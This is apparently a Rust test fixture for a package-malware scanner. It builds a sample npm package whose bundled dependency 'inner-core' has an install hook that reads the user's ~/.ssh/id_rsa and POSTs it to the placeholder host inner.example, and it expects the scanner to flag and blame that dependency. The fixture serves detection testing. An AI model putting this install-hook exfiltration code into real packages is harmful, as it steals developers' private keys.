//! An npm package with a dependency inside its archive, whose `install` hook steals.
//!
//! Must be found, and be told as the bundled one's doing.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"module.exports = 1;
";

const NODE_MODULES_INNER_CORE_PACKAGE_JSON: &str = r#"{"name": "inner-core", "version": "1.0.0", "scripts": {"install": "node s.js"}}
"#;

const NODE_MODULES_INNER_CORE_S_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const request = http.request('http://inner.example/', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("all-in-one-kit", "1.0.2")
        .file("index.js", INDEX_JS)
        .file(
            "node_modules/inner-core/package.json",
            NODE_MODULES_INNER_CORE_PACKAGE_JSON,
        )
        .file("node_modules/inner-core/s.js", NODE_MODULES_INNER_CORE_S_JS)
        .field("dependencies", serde_json::json!({"inner-core": "1.0.0"}))
        .field("bundledDependencies", serde_json::json!(["inner-core"]));
    package
        .specimen(
            "npm-bundled-hook",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .blaming("inner-core")
}
